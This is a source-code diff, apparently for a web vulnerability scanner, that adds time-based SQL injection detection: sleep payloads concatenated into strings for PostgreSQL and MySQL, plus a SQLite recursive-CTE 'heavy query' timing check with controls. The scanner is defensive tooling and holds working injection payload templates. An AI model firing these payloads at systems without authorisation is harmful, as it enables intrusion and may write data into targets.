@@ -6,7 +6,9 @@
 //! - UNION-based: `UNION SELECT a*b, …` with 1–6 columns makes the product (computed by the
 //!   database only) appear in the answer, twice with new numbers;
 //! - time-based: a bounded sleep (≤ 2 s) delays the answer by that much, twice, and a zero sleep
-//!   does not.
+//!   does not; also concatenated into a string (`'||…||'`, which keeps an INSERT whole); for
+//!   SQLite, which cannot sleep, a heavy recursive query slow twice, fast for one row and slower
+//!   for twice the rows.
 
 use super::client::{Client, Page, Req};
 use super::crawl::Endpoint;
@@ -74,7 +76,21 @@ pub async fn check(state: &mut State, opts: &WebOptions) -> Result<(), NetError>
             let mk = |value: &str| ep.request_with(&name, value);
             let all = Techniques { time_based: true };
             match probe_param(state, &mk, &v, opts, all).await? {
-                Outcome::Found { how, evidence } => {
+                Outcome::Found { how, mut evidence } => {
+                    if how.contains("concatenated") {
+                        // The statement ran whole with the probe's value in it: if it writes
+                        // (an INSERT or UPDATE, which a cut-off comment would have broken),
+                        // each probe stored a row.
+                        evidence.notes.push(
+                            "the probes ran the whole statement with their value in it: where it writes (INSERT/UPDATE), each stored a row"
+                                .into(),
+                        );
+                        state.data_changing.insert(format!(
+                            "{} {} [{name}]: SQL probes concatenated into a statement that may write (INSERT/UPDATE)",
+                            ep.method,
+                            ep.url.path()
+                        ));
+                    }
                     state.add_finding(rules::web_sqli::RULE.finding(
                         format!(
                             "SQL injection in parameter {name} of {} {} ({how})",
@@ -272,7 +288,8 @@ fn time_delay(opts: &WebOptions) -> Duration {
 /// server must not hide a real delay), twice, and the same payload with a zero sleep does not —
 /// that control and the repeat are what keep a merely jittery page from being reported. When the zero sleep is slow as well, the place is slow for any
 /// changed value (a cache miss, an unknown-user path): no template can tell, so it stops there.
-/// One request per template when nothing is slow; at most 4 × 3.
+/// One request per template when nothing is slow; at most 6 × 3, then [`heavy_query`] (SQLite,
+/// which has no sleep function): one request when nothing is slow, at most 5.
 pub(crate) async fn time_based(
     client: &Client,
     mk: MakeReq<'_>,
@@ -299,6 +316,20 @@ pub(crate) async fn time_based(
             "PG_SLEEP()",
             "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -",
             "{v}' AND 1=(SELECT 1 FROM PG_SLEEP(0))-- -",
+        ),
+        // Concatenated into the string, nothing cut off: the statement stays whole where a
+        // comment would leave `VALUES (` open (an INSERT or UPDATE). The subqueries do not
+        // depend on a row, so each sleeps once per statement. MySQL's `||` is OR unless
+        // PIPES_AS_CONCAT, so it gets `+` (numeric addition, both sides always evaluated).
+        (
+            "PG_SLEEP(), concatenated",
+            "{v}'||(SELECT '' FROM PG_SLEEP({d}))||'",
+            "{v}'||(SELECT '' FROM PG_SLEEP(0))||'",
+        ),
+        (
+            "SLEEP(), concatenated",
+            "{v}'+(SELECT 0 FROM (SELECT SLEEP({d}))x)+'",
+            "{v}'+(SELECT 0 FROM (SELECT SLEEP(0))x)+'",
         ),
     ];
     // Named by the sleep function the database answered to (MySQL/MariaDB's SLEEP, PostgreSQL's
@@ -347,7 +378,104 @@ pub(crate) async fn time_based(
             });
         }
     }
-    Ok(Outcome::None)
+    heavy_query(client, mk, v, base_t).await
+}
+
+/// The heavy query's size the probing starts with (about 0.4–0.6 s of SQLite's time on a small
+/// server), the largest size it scales up to, and how much slower than the original answer a
+/// heavy answer must be.
+const HEAVY_START: u64 = 2_000_000;
+const HEAVY_MAX: u64 = 8_000_000;
+const HEAVY_SLOW: Duration = Duration::from_millis(500);
+
+/// `{v}'||(count of a recursive CTE of `n` rows)||'`: SQLite work that grows with `n`, spliced
+/// into a string (SQLite's `||` concatenates; the statement stays whole).
+fn heavy_payload(v: &str, n: u64) -> String {
+    format!(
+        "{v}'||(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {n}) SELECT x FROM c))||'"
+    )
+}
+
+/// SQLite, which has no sleep: a recursive CTE counting to N cannot ask for an exact delay, so
+/// the proof is its shape: N rows answer at least [`HEAVY_SLOW`] slower than the original twice,
+/// one row (`LIMIT 1`, the same text otherwise) does not, and 2N rows clearly slower than N
+/// (≥ 1.3 ×) — a page slow for any odd or long value fails the control, one slow at random
+/// fails the repeat or the doubling. N starts at [`HEAVY_START`]; an answer slowed by less than
+/// twice the bar (a fast machine, or just over it) scales it once, aiming at 1.2 s, up to
+/// [`HEAVY_MAX`]. One request when the
+/// first answer is not slowed by 0.1 s; at most 5 (sizes N, 2N and 1; at most three sizes).
+async fn heavy_query(
+    client: &Client,
+    mk: MakeReq<'_>,
+    v: &str,
+    base_t: Duration,
+) -> Result<Outcome, NetError> {
+    let excess = |p: &Page| p.elapsed.saturating_sub(base_t);
+    let mut n = HEAVY_START;
+    let Some(mut first) = send(client, mk, &heavy_payload(v, n)).await? else {
+        return Ok(Outcome::None);
+    };
+    let e = excess(&first).as_secs_f64();
+    if e < 0.1 {
+        return Ok(Outcome::None);
+    }
+    if e < 2.0 * HEAVY_SLOW.as_secs_f64() {
+        // Slowed, but near the bar: aim at over a second of work, so that the repeat does not
+        // fall under it by chance.
+        let factor = (1.2 / e).ceil().clamp(2.0, 4.0) as u64;
+        n = (n * factor).min(HEAVY_MAX);
+        let Some(p) = send(client, mk, &heavy_payload(v, n)).await? else {
+            return Ok(Outcome::None);
+        };
+        if excess(&p) < HEAVY_SLOW {
+            return Ok(Outcome::None);
+        }
+        first = p;
+    }
+    let control = heavy_payload(v, 1);
+    let Some(z) = send(client, mk, &control).await? else {
+        return Ok(Outcome::None);
+    };
+    if excess(&z) >= HEAVY_SLOW || excess(&z) * 2 > excess(&first) {
+        tracing::debug!(
+            request = %mk(&control).describe(),
+            elapsed_ms = z.elapsed.as_millis() as u64,
+            "slow with a one-row query too: the heavy query proves nothing here"
+        );
+        return Ok(Outcome::None);
+    }
+    let p = heavy_payload(v, n);
+    let Some(again) = send(client, mk, &p).await? else {
+        return Ok(Outcome::None);
+    };
+    if excess(&again) < HEAVY_SLOW {
+        return Ok(Outcome::None);
+    }
+    let Some(double) = send(client, mk, &heavy_payload(v, 2 * n)).await? else {
+        return Ok(Outcome::None);
+    };
+    let at_n = excess(&first).max(excess(&again));
+    if excess(&double) < at_n.mul_f64(1.3) {
+        return Ok(Outcome::None);
+    }
+    Ok(Outcome::Found {
+        how: "time-based, SQLite heavy query, concatenated".into(),
+        evidence: Evidence {
+            request: Some(mk(&p).describe()),
+            response: Some(format!(
+                "{n} rows: answered after {:.2} s and {:.2} s; {} rows: {:.2} s; 1 row (LIMIT 1): {:.2} s; baseline {:.2} s",
+                first.elapsed.as_secs_f64(),
+                again.elapsed.as_secs_f64(),
+                2 * n,
+                double.elapsed.as_secs_f64(),
+                z.elapsed.as_secs_f64(),
+                base_t.as_secs_f64()
+            )),
+            notes: vec![
+                "SQLite has no sleep: the work of a recursive CTE counting rows grows with their number, and a one-row count is fast".into(),
+            ],
+        },
+    })
 }
 
 /// Whether `v` can stand unquoted in SQL as a number. Only then are the unquoted (numeric
